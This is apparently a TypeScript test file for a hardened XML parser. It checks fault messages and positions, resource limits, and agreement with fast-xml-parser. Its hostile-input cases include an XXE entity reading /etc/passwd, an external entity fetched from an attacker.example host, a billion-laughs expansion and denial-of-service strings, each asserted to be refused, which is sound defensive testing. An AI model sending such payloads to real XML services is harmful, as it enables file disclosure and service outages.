import fc from 'fast-check'
import { XMLParser, XMLValidator } from 'fast-xml-parser'
import { describe, expect, test } from 'vitest'
import { childOf, parseXml, textOf, XML_LIMITS, type XmlElement } from './xml.ts'

const rootOf = (text: string): XmlElement => {
  const { root, fault } = parseXml(text)
  if (!root) throw new Error(fault.message)
  return root
}

describe('a document', () => {
  test('is a tree by local names, with attributes without their prefixes', () => {
    const root = rootOf(
      '<?xml version="1.0"?><!-- x --><a:r xmlns:a="u" a:t="1" u=\'2\'><b/><b:c>d</b:c></a:r>\n',
    )
    expect(root.name).toBe('r')
    expect([...root.attributes]).toEqual([
      ['t', '1'],
      ['u', '2'],
    ])
    expect(root.children.map(({ name }) => name)).toEqual(['b', 'c'])
    expect(textOf(root, 'c')).toBe('d')
    expect(childOf(root, 'none')).toBeUndefined()
  })

  test('gives its text with references decoded and CDATA as it is', () => {
    expect(rootOf('<a>1 &amp; <![CDATA[<z> &amp;]]> &#65;&#x1F600;<b/>!</a>').text).toBe(
      '1 & <z> &amp; A\u{1F600}!',
    )
    expect(rootOf('<a t="&lt;&quot;&apos;&gt;"/>').attributes.get('t')).toBe('<"\'>')
    expect(rootOf('<a>&#0;&#xD800;</a>').text).toBe('\ufffd\ufffd')
  })

  test('says where the start tag of every element is', () => {
    const text = '\ufeff<a>\n <b c="1">x</b></a>'
    const { at } = childOf(rootOf(text), 'b') ?? { at: { from: 0, to: 0 } }
    expect(text.slice(at.from, at.to)).toBe('<b c="1">')
  })

  test('says where every element ends', () => {
    const text = '<a>\n <b>x<c/></b ></a>'
    const b = childOf(rootOf(text), 'b')
    expect(text.slice(b?.at.from, b?.end)).toBe('<b>x<c/></b >')
    expect(text.slice(b?.children[0]?.at.from, b?.children[0]?.end)).toBe('<c/>')
  })

  test('may use names that objects have', () => {
    const root = rootOf('<__proto__ constructor="1" __proto__="2"><toString/></__proto__>')
    expect([root.name, root.attributes.get('__proto__'), root.children[0]?.name]).toEqual([
      '__proto__',
      '2',
      'toString',
    ])
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })
})

describe('H9 what is not well-formed is a fault at its place', () => {
  test.each([
    ['<a><b></a>', '</a> closes <b>.', '</a>'],
    ['<a><b>', '<b> is never closed.', '<b>'],
    ['<a/></b>', '</b> closes nothing.', '</b>'],
    ['<a/><b/>', '<b> is a second root element.', '<b'],
    ['PK', 'Text stands before the root element.', 'P'],
    ['<a/> x', 'Text stands after the root element.', 'x'],
    ['<a b=1/>', 'The attribute "b" of <a> has no quoted value.', 'b='],
    ['<a b/>', 'The attribute "b" of <a> has no quoted value.', 'b'],
    ['<a b="1"c="2"/>', 'Space is missing before "c" in <a>.', 'c'],
    ['<a b="1" b="2"/>', '<a> has the attribute "b" twice.', 'b="2"'],
    ['<a b="<"/>', 'A "<" stands in the value of "b".', '<'],
    ['<a b="1', 'The value of "b" in <a> is never closed.', 'b="'],
    ['<a>&nbsp;</a>', '"&nbsp;" is no known reference.', '&nbsp;'],
    ['<a>1 & 2</a>', 'An "&" stands alone.', '&'],
    ['<a><!-- x</a>', 'A comment is never closed.', '<!--'],
    ['<a><![CDATA[ x</a>', 'A CDATA section is never closed.', '<![CDATA['],
    ['<a><?x </a>', 'A processing instruction is never closed.', '<?'],
    ['<a>< b/></a>', 'A "<" starts no tag.', '<'],
    ['<a', 'The tag <a> is not closed by ">".', '<a'],
    ['', 'There is no element.', ''],
  ])('%s', (text, message, place) => {
    const { fault } = parseXml(text)
    expect(fault?.kind).toBe('malformed')
    expect(fault?.message).toBe(message)
    expect(text.slice(fault?.at.from, fault?.at.to)).toBe(place)
  })

  test.each([
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<?xml version="1.0"?>\n<!doctype a><a/>',
    '<a><!DOCTYPE a></a>',
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><a/>',
    `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c "${'&b;'.repeat(1000)}">]><l>&c;</l>`,
  ])('H8 a document type is refused, whatever it declares: %s', (text) => {
    expect(parseXml(text).fault?.kind).toBe('doctype')
  })
})

describe('hostile input', () => {
  const deep = '<a>'.repeat(100_000)
  test.each([
    ['deep nesting', deep, 'too-large'],
    ['very many elements', `<r>${'<a/>'.repeat(XML_LIMITS.elements)}</r>`, 'too-large'],
    [
      'very many attributes',
      `<r ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      'too-large',
    ],
    ['a million opening signs', '<'.repeat(1_000_000), 'malformed'],
    ['a million lone ampersands', `<r>${'&'.repeat(1_000_000)}</r>`, 'malformed'],
    ['four million spaces in a tag', `<r${' '.repeat(4_000_000)}`, 'malformed'],
    ['a million open comments', `<r>${'<!-'.repeat(1_000_000)}</r>`, 'malformed'],
  ])('%s is refused within two seconds of the processor', (_, text, kind) => {
    const start = process.cpuUsage()
    expect(parseXml(text).fault?.kind).toBe(kind)
    expect(process.cpuUsage(start).user).toBeLessThan(2_000_000)
  })

  test.each([
    ['a million references', `<r>${'&amp;'.repeat(1_000_000)}</r>`],
    ['a million comments', `<r>${'<!---->'.repeat(1_000_000)}</r>`],
    ['a long text', `<r>${'x'.repeat(8_000_000)}</r>`],
    ['half a million sections', `<r>${'<![CDATA[x]]>'.repeat(500_000)}</r>`],
  ])('%s are read within two seconds of the processor', (_, text) => {
    const start = process.cpuUsage()
    expect(parseXml(text).root).toBeDefined()
    expect(process.cpuUsage(start).user).toBeLessThan(2_000_000)
  })

  test('any text gives a tree or a fault inside of it', () => {
    const piece = fc.constantFrom(
      '<a>',
      '</a>',
      '<b c="',
      '"',
      '/>',
      '>',
      '<',
      '&amp;',
      '&',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?x',
      '?>',
      'x',
      ' ',
      '\n',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(piece).map((parts) => parts.join('')),
        ),
        (text) => {
          const { root, fault } = parseXml(text)
          expect(root === undefined).toBe(fault !== undefined)
          if (fault) expect(fault.at.from).toBeLessThanOrEqual(text.length)
        },
      ),
    )
  })
})

const NAMES = ['a', 'b:c', 'ThreatModel', 'x_1']
const SIGNS: Readonly<Record<string, string>> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' }
const words = fc
  .string({ unit: fc.constantFrom('a', 'Z', '1', ' ', '&', '<', '>', '"', 'é', '\u{1F600}') })
  .map((text) => text.replace(/[&<>"]/gu, (sign) => SIGNS[sign] ?? sign))
const document = fc.letrec<{ element: string }>((tie) => ({
  element: fc
    .tuple(
      fc.constantFrom(...NAMES),
      fc.option(words, { nil: undefined }),
      fc.array(fc.oneof({ depthSize: 'small' }, words, tie('element')), { maxLength: 4 }),
    )
    .map(
      ([name, value, content]) =>
        `<${name}${value === undefined ? '' : ` p:v="${value}"`}>${content.join('')}</${name}>`,
    ),
})).element

/** `fast-xml-parser` as the judge: what it takes and reads, and only that, is taken and read the same. */
describe('another parser of XML agrees', () => {
  const parser = new XMLParser({
    preserveOrder: true,
    ignoreAttributes: false,
    attributeNamePrefix: '',
    removeNSPrefix: true,
    parseTagValue: false,
    trimValues: false,
  })
  type Node = Readonly<Record<string, unknown>>
  const shapeOfTheirs = (node: Node): unknown => {
    const name = Object.keys(node).find((key) => key !== ':@') ?? ''
    const content = node[name] as readonly Node[]
    const children = content.filter((child) => !('#text' in child))
    const text = content.map((child) => ('#text' in child ? String(child['#text']) : '')).join('')
    return [name, Object.entries((node[':@'] as Node | undefined) ?? {}), text, children.map(shapeOfTheirs)]
  }
  const shapeOfOurs = (element: XmlElement): unknown => [
    element.name,
    [...element.attributes],
    element.text,
    element.children.map(shapeOfOurs),
  ]

  test('on documents', () => {
    fc.assert(
      fc.property(document, (text) => {
        expect(XMLValidator.validate(text)).toBe(true)
        expect(shapeOfOurs(rootOf(text))).toEqual(
          shapeOfTheirs((parser.parse(text) as readonly Node[])[0] ?? {}),
        )
      }),
    )
  })

  test('on documents that lost a sign of their markup', () => {
    fc.assert(
      fc.property(document, fc.nat(), (text, at) => {
        const cut = at % text.length
        const broken = text.slice(0, cut) + text.slice(cut + 1)
        if (XMLValidator.validate(broken) !== true) expect(parseXml(broken).fault).toBeDefined()
      }),
    )
  })
})
